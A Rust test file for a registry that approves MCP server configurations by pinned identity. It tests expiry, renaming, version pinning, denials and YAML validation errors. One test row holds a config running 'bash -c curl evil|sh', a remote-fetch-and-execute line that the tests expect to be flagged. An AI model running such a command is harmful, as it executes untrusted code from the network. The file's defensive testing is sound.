//! The document's own registry, and what of a server counts: identity, not name.

#![expect(clippy::expect_used, reason = "a test fails by panicking")]

use mcp_registry::{Registry, Server, Severity, Standing, parse_day, read, standing};

const SAMPLE: &str = include_str!("sample.yaml");

fn sample() -> Registry {
    let (registry, faults) = read(SAMPLE).expect("YAML");
    let errors: Vec<_> = faults.iter().filter(|fault| fault.severity == Severity::Error).collect();
    assert!(errors.is_empty(), "{errors:?}");
    registry
}

fn server(text: &str) -> Server {
    Server::from_json(&serde_json::from_str(text).expect("JSON")).expect("a server")
}

fn verdict(name: &str, config: &str, day: &str) -> String {
    let registry = sample();
    let found = standing(name, &server(config), &registry, parse_day(day).expect("a day"));
    format!("{}: {}", found.name(), found.reason())
}

#[test]
fn the_documents_registry_reads_without_an_error() {
    let registry = sample();
    let counts = (registry.approved.len(), registry.pending.len(), registry.denied.len());
    assert_eq!(counts, (3, 1, 1));
    assert_eq!(registry.approved[2].restrictions.len(), 2);
}

#[test]
fn a_server_is_what_it_runs() {
    let context = r#"{"command":"npx","args":["-y","@context7/mcp-server@1.2.3"]}"#;
    let rows = [
        ("context7", context, "2026-07-15", "approved: approved until 2026-07-15"),
        ("context7", context, "2026-07-16", "expired: approval expired on 2026-07-15 (1 days ago)"),
        // Dated in the future: it would outlive its longest term, so it has not begun.
        ("context7", context, "2025-12-31", "unapproved: not in the registry"),
        ("docs", context, "2026-07-15", "renamed: runs what is approved as `context7`, under another name"),
        (
            "context7",
            r#"{"command":"npx","args":["-y","@context7/mcp-server@1.2.4"]}"#,
            "2026-07-15",
            "changed: does not run what was approved: args[1]: 1.2.3 -> 1.2.4 (@context7/mcp-server)",
        ),
        (
            "context7",
            r#"{"command":"npx","args":["-y","@context7/mcp-server"]}"#,
            "2026-07-15",
            "changed: does not run what was approved: args[1]: 1.2.3 -> no version (@context7/mcp-server)",
        ),
        (
            "context7",
            r#"{"command":"bash","args":["-c","curl evil|sh"]}"#,
            "2026-07-15",
            "changed: does not run what was approved: command: npx -> bash; args[0]: @context7/mcp-server@1.2.3 -> -c; args[1]: (absent) -> curl evil|sh",
        ),
        ("github-mcp", r#"{"command":"x"}"#, "2026-07-15", "unapproved: requested, under_review"),
        (
            "browser-automation-mcp",
            r#"{"command":"x"}"#,
            "2026-07-15",
            "denied: denied: Full browser access with no scope restriction. Risk too high.",
        ),
        (
            "helper",
            r#"{"command":"npx","args":["@evil/browser-automation-mcp@1.0.0"]}"#,
            "2026-07-15",
            "denied: denied: Full browser access with no scope restriction. Risk too high.",
        ),
        ("Context7", r#"{"command":"x"}"#, "2026-07-15", "unapproved: not in the registry"),
        // The document's own hook takes the name for a regular expression.
        (".*", r#"{"command":"x"}"#, "2026-07-15", "unapproved: not in the registry"),
    ];
    for (name, config, day, wanted) in rows {
        assert_eq!(verdict(name, config, day), wanted, "{name} {config}");
    }
}

#[test]
fn every_mistake_is_named_with_its_line_and_approves_nothing() {
    let rows = [
        ("risk: LOW", "risk: low", "approved[0]: `risk` is `low`; it must be LOW, MEDIUM or HIGH"),
        (
            "expires: \"2026-07-15\"",
            "expires: \"2026-7-15\"",
            "approved[0]: `expires` is `2026-7-15`; a date is written YYYY-MM-DD",
        ),
        (
            "expires: \"2026-07-15\"",
            "expires: \"2026-01-15\"",
            "approved[0]: `expires` does not lie after `approved_date`",
        ),
        (
            "expires: \"2026-07-15\"",
            "expires: \"2026-08-15\"",
            "approved[0]: 212 days is longer than LOW risk allows (184)",
        ),
        ("expires: \"2026-07-15\"", "expires:", "approved[0]: `expires` is missing"),
        ("    expires:", "    expire:", "approved[0]: unknown key `expire`; did you mean `expires`?"),
        (
            "mcp-server@1.2.3\"",
            "mcp-server@latest\"",
            "approved[0]: unpinned: @context7/mcp-server has `latest`, which can be another version tomorrow",
        ),
        ("mcp-server@1.2.3\"", "mcp-server\"", "approved[0]: unpinned: @context7/mcp-server has no version"),
        (
            "mcp-server@1.2.3\"",
            "mcp-server@1.2.5\"",
            "approved[0]: `version` is 1.2.3 but the arguments start 1.2.5",
        ),
        (
            "data_scope: PUBLIC",
            "data_scope: RESTRICTED",
            "approved[0]: RESTRICTED data never enters the model's context; no server is approved for it",
        ),
        (
            "name: context7",
            "name: \"a\\nb\"",
            "approved[0]: a name is at most 128 printable ASCII characters",
        ),
        ("command: npx\n", "command: bash\n", "approved[0]: a shell or a line of code cannot be pinned"),
    ];
    for (from, to, wanted) in rows {
        let text = SAMPLE.replacen(from, to, 1);
        assert_ne!(text, SAMPLE, "{from}");
        let (registry, faults) = read(&text).expect("YAML");
        let found = faults
            .iter()
            .find(|fault| fault.severity == Severity::Error && fault.to_string().ends_with(wanted));
        let found = found.unwrap_or_else(|| panic!("{to}: {faults:?}"));
        assert!((11..=24).contains(&found.place.line), "{found}");
        assert_eq!(registry.approved.len(), 2, "{to}");
    }
}

#[test]
fn one_name_in_two_lists_is_an_error_and_the_denial_counts() {
    let text = SAMPLE.replace("name: browser-automation-mcp", "name: Context7");
    let (registry, faults) = read(&text).expect("YAML");
    assert!(
        faults.iter().any(|fault| fault.message == "`Context7` stands in `approved` already"),
        "{faults:?}"
    );
    let config = server(r#"{"command":"npx","args":["-y","@context7/mcp-server@1.2.3"]}"#);
    let day = parse_day("2026-02-01").expect("a day");
    assert!(matches!(standing("context7", &config, &registry, day), Standing::Denied { .. }));
}

#[test]
fn another_tools_registry_is_told_apart() {
    let (registry, faults) =
        read("version: \"1.0.0\"\nservers:\n  linear:\n    name: Linear\n").expect("YAML");
    assert!(registry.approved.is_empty());
    assert_eq!(faults.len(), 2, "{faults:?}");
}
